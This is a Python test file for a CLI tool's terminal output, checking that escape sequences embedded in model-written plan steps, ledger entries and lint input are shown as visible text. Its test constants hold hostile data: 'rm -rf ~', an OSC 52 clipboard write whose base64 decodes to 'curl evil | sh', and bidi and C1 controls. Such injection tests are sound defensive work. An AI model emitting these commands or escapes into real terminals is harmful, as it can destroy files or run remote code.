"""Terminal output for people: colour only where asked for, and never a way in for model text.

Each test runs the real CLI as a subprocess. With `FORCE_COLOR` (what a terminal would get) the
only escape sequences on stdout are rich's colours (SGR, `ESC [ … m`): a model's steps and a
ledger's stored values carrying an erase, an OSC 52 clipboard write, C1 and bidi controls are
printed made visible. Without a terminal, or with `NO_COLOR`, there is no escape at all.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from testkit.codex_home import write_codex_home
from testkit.github import LoopbackGitHub
from testkit.loopback import LoopbackCodex, sse, success_transcript
from testkit.paths import LSP_WORKSPACE
from testkit.pr_repo import TOKEN, Scenario
from testkit.pr_repo import wishcraft_in as in_scenario
from testkit.samples import chunks
from wishcraft.cli import build_parser
from wishcraft.cli.output import EXIT_CODES, aligned, colour_wanted
from wishcraft.ledger import LedgerEntry, append
from wishcraft.words import plural

ERASE = "\x1b[2K\r"
OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
CSI_C1 = "\x9b2J"
BIDI = "\u202e\u2066"
HOSTILE = f"Survey{ERASE}rm -rf ~{OSC52}{CSI_C1}{BIDI}"
TERMINAL_BYTES = ("\x1b", "\r", "\x07", "\x9b", "\u202e", "\u2066")
SGR = re.compile(r"\x1b\[[0-9;]*m")
"""Select Graphic Rendition: colours and bold, the only sequence rich may write."""


def cli(
    *args: str | Path, cwd: Path, env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    base = {k: v for k, v in os.environ.items() if k not in ("NO_COLOR", "FORCE_COLOR")}
    return subprocess.run(
        [sys.executable, "-m", "wishcraft.cli", *map(str, args)],
        env={**base, **(env or {})},
        capture_output=True,
        text=True,
        timeout=60,
        cwd=cwd,
    )


def hostile_plan(tmp_path: Path, codex: LoopbackCodex, env: dict[str, str]) -> str:
    """Plan the lighthouse wish live; the model answers steps carrying terminal controls."""
    shutil.copytree(LSP_WORKSPACE, tmp_path / "ws")
    home = write_codex_home(tmp_path / "home")
    answer = json.dumps(
        {
            "steps": [
                {"title": HOSTILE, "detail": f"detail{OSC52}", "acceptance": f"ok{BIDI}"},
                {"title": "Place 3 lamps", "detail": "", "acceptance": ""},
            ],
            "notes": [f"note{ERASE}"],
        }
    )
    codex.enqueue("responses", sse(success_transcript(chunks(answer))))
    done = cli(
        "plan",
        "data/wishes/lighthouse.wish.yaml",
        cwd=tmp_path / "ws",
        env={
            "CODEX_HOME": str(home),
            "CHATGPT_BASE_URL": codex.base_url,
            "CODEX_REFRESH_TOKEN_URL_OVERRIDE": codex.refresh_url,
            **env,
        },
    )
    assert done.returncode == 0, done.stderr
    return done.stdout


def test_coloured_plan_steps_carry_only_colour_sequences(
    tmp_path: Path, codex: LoopbackCodex
) -> None:
    out = hostile_plan(tmp_path, codex, {"FORCE_COLOR": "1"})
    assert SGR.search(out)  # coloured: the check below is not vacuous
    bare = SGR.sub("", out)
    for char in TERMINAL_BYTES:
        assert char not in bare, repr(char)
    assert " 1. Survey\\x1b[2K\\rrm -rf ~\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\x9b2J" in bare
    assert "\\u202e\\u2066" in bare
    assert " 2. Place 3 lamps" in bare.splitlines()


@pytest.mark.parametrize(
    "env", [{}, {"NO_COLOR": "1"}, {"NO_COLOR": "1", "FORCE_COLOR": "1"}], ids=str
)
def test_without_a_terminal_or_with_no_color_there_is_no_escape_at_all(
    env: dict[str, str], tmp_path: Path, codex: LoopbackCodex
) -> None:
    out = hostile_plan(tmp_path, codex, env)
    for char in TERMINAL_BYTES:
        assert char not in out, repr(char)
    assert out.splitlines()[0].startswith(" 1. Survey\\x1b[2K\\r")


def ledger_with_an_apply_and_a_dry_run(root: Path) -> Path:
    ledger = root / "data" / "ledger" / "wishes.jsonl"
    common = {
        "conduit": "openai.codex.v2025.apply",
        "action": "apply",
        "mode": "commit",
        "wish": "data/wishes/lamps.wish.yaml",
        "outcome": "complete",
    }
    append(ledger, LedgerEntry(**common, summary="Dry run, not applied: 1 file."))
    append(
        ledger,
        LedgerEntry(**common, anchor_id="A-20260101T000000Z-0123456789ab", model=f"gpt{OSC52}"),
    )
    append(
        ledger,
        LedgerEntry(
            **{**common, "action": "open_pr"},
            anchor_id="A-20260101T000000Z-0123456789ab",
            pr_url="https://github.example/o/r/pull/7",
        ),
    )
    return ledger


def test_the_ledger_table_shows_anchor_and_pr_and_marks_the_dry_run(tmp_path: Path) -> None:
    ledger = ledger_with_an_apply_and_a_dry_run(tmp_path)
    done = cli("ledger", "--ledger", ledger, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    header, *rows = (line.split() for line in done.stdout.splitlines())
    assert header[4:8] == ["outcome", "counted", "anchor", "pr"]
    dry, applied, opened = ({name: row[i] for i, name in enumerate(header)} for row in rows)
    assert [dry[k] for k in ("action", "mode", "outcome", "anchor", "pr")] == [
        "apply",
        "dry-run",
        "complete",
        "-",
        "-",
    ]
    assert [applied[k] for k in ("action", "mode", "outcome", "anchor")] == [
        "apply",
        "commit",
        "complete",
        "A-20260101T000000Z-0123456789ab",
    ]
    assert [opened[k] for k in ("anchor", "pr")] == [
        "A-20260101T000000Z-0123456789ab",
        "https://github.example/o/r/pull/7",
    ]
    assert "wishcraft: 3 calls in" in done.stderr


def test_the_coloured_ledger_table_shows_stored_controls_made_visible(tmp_path: Path) -> None:
    ledger = ledger_with_an_apply_and_a_dry_run(tmp_path)
    done = cli("ledger", "--ledger", ledger, cwd=tmp_path, env={"FORCE_COLOR": "1"})
    assert done.returncode == 0, done.stderr
    assert SGR.search(done.stdout)
    bare = SGR.sub("", done.stdout)
    for char in TERMINAL_BYTES:
        assert char not in bare, repr(char)
    assert "gpt\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07" in bare
    assert "dry-run" in bare and "https://github.example/o/r/pull/7" in bare


def test_help_lists_every_subcommand_with_a_line_and_the_exit_codes(tmp_path: Path) -> None:
    done = cli("--help", cwd=tmp_path)
    assert done.returncode == 0
    subparsers = next(action for action in build_parser()._actions if action.dest == "command")
    for name in subparsers.choices:  # type: ignore[union-attr]
        described = [line for line in done.stdout.splitlines() if line.strip().startswith(name)]
        assert described and len(described[0].split()) > 2, name
    for status, meaning in EXIT_CODES:
        assert re.search(rf"^\s+{status}\s+{re.escape(meaning[:20])}", done.stdout, re.M)


@pytest.mark.parametrize(
    ("count", "noun", "shown"),
    [(1, "call", "1 call"), (2, "call", "2 calls"), (0, "file", "0 files")]
    + [(1, "entry", "1 entry"), (3, "entry", "3 entries"), (2, "day", "2 days")]
    + [(1_000, "step", "1,000 steps")],
    ids=lambda value: str(value),
)
def test_plural(count: int, noun: str, shown: str) -> None:
    assert plural(count, noun) == shown


@pytest.mark.parametrize(
    ("env", "tty", "wanted"),
    [
        ({}, True, True),
        ({}, False, False),
        ({"NO_COLOR": "1"}, True, False),
        ({"NO_COLOR": ""}, True, True),  # no-color.org: set and not empty
        ({"FORCE_COLOR": "1"}, False, True),
        ({"NO_COLOR": "1", "FORCE_COLOR": "1"}, False, False),
    ],
    ids=["tty", "pipe", "no-color", "empty-no-color", "force", "no-color-wins"],
)
def test_colour_is_for_terminals_and_no_color_wins(
    env: dict[str, str], tty: bool, wanted: bool
) -> None:
    class Stream:
        def isatty(self) -> bool:
            return tty

    assert colour_wanted(Stream(), env) is wanted  # type: ignore[arg-type]


def test_aligned_pads_every_column_but_the_last() -> None:
    assert aligned(("a", "bb", "c"), [("xyz", "1", "tail"), ("-", "22", "t")]) == (
        "a    bb  c\nxyz  1   tail\n-    22  t\n"
    )


def test_pr_format_json_is_one_document_for_scripts(
    scenario: Scenario, github: LoopbackGitHub
) -> None:
    anchor = scenario.anchor.anchor_id
    done = in_scenario(scenario, "pr", anchor, "--format", "json")
    assert done.returncode == 0, done.stderr
    result = json.loads(done.stdout)
    assert result["outcome"] == "complete" and result["exit_code"] == 0
    assert result["pr_url"] == "https://github.example/acme/widgets/pull/1"
    assert result["anchor_id"] == anchor and len(result["files"]) == 3
    assert TOKEN not in done.stdout and TOKEN not in done.stderr
    unknown = in_scenario(scenario, "pr", "A-20260101T000000Z-000000000000", "--format", "json")
    refused = json.loads(unknown.stdout)
    assert unknown.returncode == refused["exit_code"] != 0
    assert refused["pr_url"] is None and refused["message"] in unknown.stderr


def test_rollback_format_json_reports_each_outcome(scenario: Scenario) -> None:
    anchor = scenario.anchor.anchor_id
    done = in_scenario(scenario, "rollback", anchor, "--format", "json")
    assert done.returncode == 0, done.stderr
    undone = json.loads(done.stdout)
    assert (undone["anchor_id"], undone["outcome"], undone["exit_code"]) == (anchor, "complete", 0)
    assert undone["files"] and undone["message"] in done.stderr
    assert undone["ledger_problems"] == []
    again = in_scenario(scenario, "rollback", anchor, "--format", "json")
    assert again.returncode == 3
    assert json.loads(again.stdout)["outcome"] == "refused"
    unknown = in_scenario(
        scenario, "rollback", "A-20260101T000000Z-000000000000", "--format", "json"
    )
    assert unknown.returncode == 2 and json.loads(unknown.stdout)["outcome"] == "failed"


def test_coloured_lint_is_the_plain_lint_plus_colour_only(tmp_path: Path) -> None:
    """A wish whose unknown key carries an erase, OSC 52 and bidi controls: on a terminal each
    finding is the same line as in CI, with SGR colour and nothing else added."""
    shutil.copytree(LSP_WORKSPACE, tmp_path / "ws")
    wish = tmp_path / "ws" / "data" / "wishes" / "hostile.wish.yaml"
    text = (LSP_WORKSPACE / "data" / "wishes" / "lighthouse.wish.yaml").read_text()
    wish.write_text(text + '"colour\\e[2K\\r\\e]52;c;Y3Vy\\a\\u202e": 1\n', encoding="utf-8")
    plain = cli("lint", wish, cwd=tmp_path / "ws")
    coloured = cli("lint", wish, cwd=tmp_path / "ws", env={"FORCE_COLOR": "1"})
    assert plain.returncode == coloured.returncode == 0, plain.stderr
    assert "unknown-key" in plain.stdout and "\\x1b]52;c;Y3Vy\\x07\\u202e" in plain.stdout
    assert SGR.search(coloured.stdout)
    assert SGR.sub("", coloured.stdout) == plain.stdout
    no_color = cli("lint", wish, cwd=tmp_path / "ws", env={"FORCE_COLOR": "1", "NO_COLOR": "1"})
    assert no_color.stdout == plain.stdout
